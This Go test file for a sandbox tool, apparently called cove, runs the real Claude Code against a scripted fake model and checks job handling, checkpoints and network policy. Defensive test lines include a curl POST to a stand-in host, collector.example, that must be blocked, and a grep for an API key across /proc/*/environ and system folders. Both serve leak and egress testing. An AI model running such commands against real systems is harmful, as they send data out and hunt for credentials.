package agents

import (
	"fmt"
	"net"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cove-dev/cove"
	"github.com/cove-dev/cove/internal/lib/registries"
	"github.com/cove-dev/cove/internal/shim/policy"
	"github.com/cove-dev/cove/internal/test/e2e"
	"github.com/cove-dev/cove/internal/test/modeltest"
)

// claudeVersion is the version of Claude Code that jobs install.
const claudeVersion = "2.1.329"

// requireAgents skips a test that runs real agents, unless they are asked for.
func requireAgents(t *testing.T) {
	if os.Getenv("COVE_TEST_AGENTS") != "1" {
		t.Skip("make test-agents runs it: it installs agents from npm")
	}
}

// inwardRegistries returns rules for this machine's package registries that no preset opens,
// because they are at addresses of a local network.
func inwardRegistries(t *testing.T) (rules []string) {
	t.Helper()
	for _, host := range (&registries.Finder{}).Hosts(t.Context()) {
		addrs, err := net.DefaultResolver.LookupNetIP(t.Context(), "ip4", host)
		if err != nil {
			continue // then nobody installs anything from it
		}
		for _, a := range addrs {
			if !policy.New().Reach(netip.AddrPortFrom(a.Unmap(), 443), policy.TCP, []string{host}).Allow {
				rules = append(rules, a.Unmap().String())
			}
		}
	}
	slices.Sort(rules)
	return slices.Compact(rules)
}

// allowed returns the flags that allow the rules.
func allowed(rules []string) (flags []string) {
	for _, r := range rules {
		flags = append(flags, "--allow", r)
	}
	return flags
}

// installed has the packages that this process's tests share.
var installed struct {
	sync.Mutex
	dir     string
	folders map[string]string
}

// npmInstall returns a folder with packages from npm, on this machine.
func npmInstall(t *testing.T, packages ...string) string {
	t.Helper()
	installed.Lock()
	defer installed.Unlock()
	if installed.dir == "" {
		dir, err := os.MkdirTemp("", "cove-agents-")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(dir, 0o755); err != nil { // the sprite's user looks into it
			t.Fatal(err)
		}
		installed.dir, installed.folders = dir, map[string]string{}
	}
	key := strings.Join(packages, " ")
	if dir := installed.folders[key]; dir != "" {
		return dir
	}
	dir := filepath.Join(installed.dir, fmt.Sprint(len(installed.folders)))
	npm := exec.Command("npm", append([]string{"install", "--prefix", dir, "--no-audit", "--no-fund", "--loglevel=error"}, packages...)...)
	if out, err := npm.CombinedOutput(); err != nil {
		t.Fatalf("npm install: %v\n%s", err, out)
	}
	installed.folders[key] = dir
	return dir
}

// removeInstalled removes what npmInstall has made.
func removeInstalled() {
	installed.Lock()
	defer installed.Unlock()
	if installed.dir != "" {
		_ = os.RemoveAll(installed.dir)
	}
}

// npmPath returns the variable (PATH=…) with which the programs of such a folder are
// found.
func npmPath(dir string) string {
	return "PATH=" + dir + "/node_modules/.bin:/.sprite/bin:/usr/local/bin:/usr/bin:/bin"
}

// TestClaude has the real Claude Code, installed from npm, carry out a plan in a sandbox.
// The scripted model is outside, and its key never gets inside.
func TestClaude(t *testing.T) {
	requireAgents(t)
	h := e2e.NewHost(t)
	tools := npmInstall(t, "@anthropic-ai/claude-code@"+claudeVersion)
	const key = "sk-ant-the-real-key"
	model := &modeltest.Anthropic{Key: key, Turns: []modeltest.Turn{
		{Text: "I look first.", Calls: []modeltest.Call{{Tool: "Bash", Input: map[string]any{"command": "ls; env", "description": "look around"}}}},
		{Text: "A new file.", Calls: []modeltest.Call{{Tool: "Write", Input: map[string]any{"file_path": "HELLO.md", "content": "# Hello\n"}}}},
		{Text: "Read before edit.", Calls: []modeltest.Call{{Tool: "Read", Input: map[string]any{"file_path": "greeting.txt"}}}},
		{Text: "Now the change.", Calls: []modeltest.Call{{Tool: "Edit", Input: map[string]any{"file_path": "greeting.txt", "old_string": "hello", "new_string": "hello, world"}}}},
		{Text: "Commit.", Calls: []modeltest.Call{{Tool: "Bash", Input: map[string]any{"command": "git add -A && git commit -q -m 'Greet the world'", "description": "commit"}}}},
		{Text: "All is done."},
	}}
	server := httptest.NewServer(model)
	defer server.Close()
	h.Serve(nil)
	set := h.Command("", "cove", "secret", "set", "anthropic")
	set.Stdin = strings.NewReader(key)
	if out, err := set.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	h.Run("", "cove", "connector", "put", "anthropic", "--upstream", server.URL)

	repo := h.Repository("repo", map[string]string{"greeting.txt": "hello\n", "plan.md": "# Plan\n\nGreet the world, not nobody.\n"})
	job, sprite := h.Push(repo, "plan.md", "--agent", "claude", "--include", tools,
		"--env", npmPath(tools))
	out, code := h.Try(repo, "cove", "pull", job, "--wait=10m")
	logs, _ := h.Try(repo, "cove", "job", "logs", job)
	t.Logf("pull: %s\nlogs:\n%s", out, logs)
	if code != 0 || !strings.Contains(out, "Fast-forwarded main") {
		t.Fatalf("pull exited with %d", code)
	}
	if got := h.Run(repo, "git", "show", "HEAD:greeting.txt"); got != "hello, world\n" {
		t.Errorf("greeting.txt: got %q", got)
	}
	if got := h.Run(repo, "git", "log", "-1", "--format=%an: %s", "--", "HELLO.md"); got != "Ada: Greet the world\n" {
		t.Errorf("the commit of HELLO.md: got %q", got)
	}
	for _, want := range []string{"-> Write", "-> Edit", "All is done.", "== success"} {
		if !strings.Contains(logs, want) {
			t.Errorf("the log lacks %q", want)
		}
	}
	asked := model.Requests()
	if len(asked) < len(model.Turns) {
		t.Errorf("the model was asked %d times", len(asked))
	}
	for _, r := range asked {
		if strings.Contains(r.Last, key) {
			t.Error("the key was seen inside")
		}
	}
	h.Run("", "cove", "exec", "-s", sprite, "--detach", "--env", "MARK="+e2e.Planted, "sleep", "6000")
	e2e.KeyNowhere(h, key)
	if out, _ := h.Try("", "cove", "exec", "-s", sprite, "--", "sh", "-c", "grep -r "+key+" /home /tmp /etc /proc/*/environ 2>/dev/null"); strings.Contains(out, key) {
		t.Error("the key is in the sprite")
	}
	show := h.Run("", "cove", "job", "show", job, "--json")
	if !strings.Contains(show, `"input_tokens"`) {
		t.Errorf("the job has no usage: %s", show)
	}
}

// TestClaudeFails has a model that only answers with errors: the job fails, says
// why, and is over soon.
func TestClaudeFails(t *testing.T) {
	requireAgents(t)
	h := e2e.NewHost(t)
	tools := npmInstall(t, "@anthropic-ai/claude-code@"+claudeVersion)
	server := httptest.NewServer(&modeltest.Anthropic{Status: 401})
	defer server.Close()
	h.Serve(nil, "--connector", "anthropic="+server.URL)
	repo := h.Repository("repo", map[string]string{"plan.md": "Do it.\n"})
	job, _ := h.Push(repo, "plan.md", "--agent", "claude", "--include", tools,
		"--env", npmPath(tools))
	if out, code := h.Try(repo, "cove", "job", "wait", job); code != 1 {
		t.Errorf("job wait exited with %d: %s", code, out)
	}
	show := h.Run("", "cove", "job", "show", job)
	t.Logf("%s", show)
	if !strings.Contains(show, "failed") {
		t.Error("the job did not fail")
	}
}

// TestClaudeConverse talks with the real Claude Code during its job: Claude asks, waits
// and is answered. It ends when it is told that no more will come. Its turns are counted
// as they come, and its record of the talk is in the bundle.
func TestClaudeConverse(t *testing.T) {
	requireAgents(t)
	h := e2e.NewHost(t)
	tools := npmInstall(t, "@anthropic-ai/claude-code@"+claudeVersion)
	bash := func(command string) []modeltest.Call {
		return []modeltest.Call{{Tool: "Bash", Input: map[string]any{"command": command, "description": "work"}}}
	}
	model := &modeltest.Anthropic{Turns: []modeltest.Turn{
		{Text: "Which colour?"},
		{Text: "Then that.", Calls: bash("echo blue >colour.txt; git add -A; git commit -q -m 'Paint it'")},
		{Text: "Painted."},
		{Text: "Good bye.", Calls: bash("echo bye >bye.txt; git add -A; git commit -q -m 'Say good bye'")},
		{Text: "All is done."},
	}}
	server := httptest.NewServer(model)
	defer server.Close()
	h.Serve(nil, "--connector", "anthropic="+server.URL)
	repo := h.Repository("repo", map[string]string{"plan.md": "Paint it.\n"})
	flags := []string{"plan.md", "--agent", "claude", "--include", tools, "--env", npmPath(tools)}
	job, _ := h.Push(repo, append(flags, "--converse", "--max-idle", "2m")...)
	waits := func(said string) {
		t.Helper()
		e2e.Await(t, "it waits after "+said, func() bool {
			return h.Job(job).State.Terminal() || strings.Contains(h.Run("", "cove", "job", "logs", job), said) && h.Job(job).State == cove.JobWaiting
		})
		if got := h.Job(job); got.State != cove.JobWaiting {
			t.Fatalf("it is %s: %+v\n%s", got.State, got.Outcome, h.Run("", "cove", "job", "logs", job))
		}
	}
	waits("Which colour?")
	h.Run("", "cove", "job", "send", job, "Blue.")
	waits("Painted.")
	h.Run("", "cove", "job", "send", job, "--close", "That is all.")
	if out, code := h.Try(repo, "cove", "pull", job, "--wait=10m"); code != 0 {
		t.Fatalf("pull exited with %d: %s\n%s", code, out, h.Run("", "cove", "job", "logs", job))
	}
	if got := h.Run(repo, "git", "log", "--format=%s"); got != "Say good bye\nPaint it\nfirst\n" {
		t.Errorf("commits: got %q", got)
	}
	got := h.Job(job)
	if got.State != cove.JobSucceeded || got.Usage == nil || *got.Usage != (cove.Usage{InputTokens: 500, OutputTokens: 100, CostUSD: 0.004, Turns: 5}) {
		t.Errorf("got %s, %+v, %+v", got.State, got.Outcome, got.Usage)
	}
	h.Run(repo, "cove", "job", "bundle", job, "--output", "forensics/")
	if text := h.Run(repo, "sh", "-c", "cat forensics/transcript/*"); !strings.Contains(text, "Which colour?") || !strings.Contains(text, "That is all.") {
		t.Errorf("the record of the talk: %.2000s", text)
	}

	// This script calls a tool in its first turn, so that a second turn must follow.
	model.Turns = model.Turns[3:]
	job, _ = h.Push(repo, append(flags, "--dirty", "ignore", "--max-turns", "1")...)
	h.Try("", "cove", "job", "wait", job)
	if got := h.Job(job); got.Outcome.Kind != "turn_limit" {
		t.Errorf("with one turn: %+v", got.Outcome)
	}
}

// TestClaudeCheckpoint checkpoints and forks the real Claude Code while it waits for the rest
// of its model's second answer: it finishes. In a fork (of the sprite as it is, or of the
// checkpoint) it does not go on, and its commits are collected.
func TestClaudeCheckpoint(t *testing.T) {
	requireAgents(t)
	h := e2e.NewHost(t)
	tools := npmInstall(t, "@anthropic-ai/claude-code@"+claudeVersion)
	commit := func(subject string) []modeltest.Call {
		command := "hostname >>hosts.txt; git add -A; git commit -q -m '" + subject + "'"
		return []modeltest.Call{{Tool: "Bash", Input: map[string]any{"command": command, "description": "work"}}}
	}
	held, release := make(chan struct{}), make(chan struct{})
	var once sync.Once
	model := &modeltest.Anthropic{
		Turns: []modeltest.Turn{{Text: "First.", Calls: commit("One")}, {Text: "Second.", Calls: commit("Two")}, {Text: "All is done."}},
		Hold: func(turn int) {
			if turn == 1 {
				once.Do(func() { close(held) })
				<-release
			}
		},
	}
	server := httptest.NewServer(model)
	defer server.Close()
	h.Serve(nil)
	set := h.Command("", "cove", "secret", "set", "anthropic")
	set.Stdin = strings.NewReader("sk-ant-some-key")
	if out, err := set.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	h.Run("", "cove", "connector", "put", "anthropic", "--upstream", server.URL)
	h.Run("", "cove", "connector", "grant", "anthropic", "--label", "copy") // a fork is granted nothing by itself
	repo := h.Repository("repo", map[string]string{"plan.md": "Do it.\n"})
	job, sprite := h.Push(repo, "plan.md", "--agent", "claude", "--include", tools,
		"--env", npmPath(tools))
	select {
	case <-held:
	case <-time.After(e2e.LastResort):
		t.Fatalf("the model was not asked twice:\n%s", h.Run("", "cove", "job", "logs", job))
	}
	h.Run("", "cove", "checkpoint", "create", "-s", sprite, "--memory")
	h.Run("", "cove", "fork", sprite, "twin", "--label", "copy")
	close(release)
	if out, code := h.Try(repo, "cove", "pull", job, "--wait=10m"); code != 0 {
		t.Fatalf("pull exited with %d: %s\n%s", code, out, h.Run("", "cove", "job", "logs", job))
	}
	if got := h.Run(repo, "git", "log", "--format=%s"); got != "Two\nOne\nfirst\n" {
		t.Errorf("commits: got %q", got)
	}
	work := "/home/sprite/work/" + job + "/repo"
	finished := func(name string) {
		t.Helper()
		e2e.Await(t, "the copy in "+name, func() bool {
			_, code := h.Try("", "cove", "exec", "-s", name, "--", "test", "-e", "/home/sprite/.cove/jobs/"+job+"/end.json")
			return code == 0
		})
		out := h.Run("", "cove", "exec", "-s", name, "--dir", work, "--", "sh", "-c", "git log --format=%s; cat hosts.txt; cat ../../../.cove/jobs/"+job+"/end.json")
		if want := "One\nfirst\n" + sprite + "\n"; !strings.HasPrefix(out, want+"{") || !strings.Contains(out, `"reason":"stopped"`) {
			t.Errorf("%s: got %s", name, out)
		}
	}
	finished("twin")
	h.Run("", "cove", "fork", sprite, "later", "--checkpoint", "v1", "--label", "copy")
	finished("later")
}

// TestAgentRegistries: under the preset agent, packages come from where this machine's
// own clients get theirs, and from nowhere else.
func TestAgentRegistries(t *testing.T) {
	requireAgents(t)
	h := e2e.NewHost(t)
	h.Serve(nil)
	h.Run("", "cove", "create", "paint", "--network", "agent")
	if rules := inwardRegistries(t); len(rules) > 0 {
		h.Run("", "cove", append([]string{"policy", "allow", "-s", "paint"}, rules...)...)
	}
	h.Run("", "cove", "exec", "-s", "paint", "--timeout", "10m", "sh", "-c", "mkdir x; cd x; npm init -y >log; npm install --no-audit is-number@7.0.0 >>log; test -e node_modules/is-number")
	h.Run("", "cove", "exec", "-s", "paint", "--timeout", "10m", "--user", "root", "sh", "-c",
		"apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends sl >/dev/null && test -x /usr/games/sl")
	if out, code := h.Try("", "cove", "exec", "-s", "paint", "curl", "-sS", "-m", "10", "-d", "x", "http://collector.example/"); code == 0 {
		t.Errorf("a POST to another host: %s", out)
	}
	if out := h.Run("", "cove", "policy", "log", "-s", "paint"); !strings.Contains(out, "cove policy allow -s paint collector.example") {
		t.Errorf("the log does not say what to do about it:\n%s", out)
	}
}
